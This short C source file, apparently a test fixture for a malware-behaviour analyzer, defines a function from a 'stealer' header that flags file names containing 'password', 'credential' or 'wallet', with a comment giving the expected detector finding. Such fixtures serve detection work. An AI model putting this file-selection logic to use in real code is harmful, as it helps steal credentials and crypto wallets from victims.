// What makes a file interesting.
#include "stealer.h"
#include <shlwapi.h>

bool IsInteresting(const wchar_t *name)
{
    return StrStrIW(name, L"password") != NULL || StrStrIW(name, L"credential") != NULL || StrStrIW(name, L"wallet") != NULL; // want "remote-collection/keyword-search"
}
